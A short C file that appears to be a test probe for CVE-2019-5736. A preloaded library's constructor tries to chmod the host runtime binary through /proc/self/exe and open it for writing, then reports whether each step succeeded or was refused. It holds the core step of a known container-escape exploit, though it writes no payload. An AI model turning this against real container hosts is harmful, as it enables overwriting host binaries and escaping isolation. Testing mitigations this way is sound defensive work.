/*
 * The second half of CVE-2019-5736: the tool is asked to run /proc/self/exe, so it becomes the
 * contained program itself, readable and with the attacker's library loaded. From there its
 * file on the host can be opened and changed.
 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static void try_it(const char *what, int result)
{
    if (result >= 0)
        printf("SUCCEEDED %s %d\n", what, result);
    else
        printf("REFUSED %s %s\n", what, strerrorname_np(errno));
    fflush(stdout);
}

__attribute__((constructor)) static void on_load(void)
{
    char exe[256] = "";
    ssize_t n = readlink("/proc/self/exe", exe, sizeof(exe) - 1);
    if (n < 0 || !strstr(exe, "victim-tool"))
        return; /* another program, such as a shell in between */
    try_it("reexec-chmod", chmod("/proc/self/exe", 04711));
    int fd = open("/proc/self/exe", O_WRONLY | O_CLOEXEC);
    if (fd < 0 && errno == ETXTBSY)
        fd = 0; /* allowed, except at this moment */
    try_it("reexec-write", fd);
    _exit(0);
}
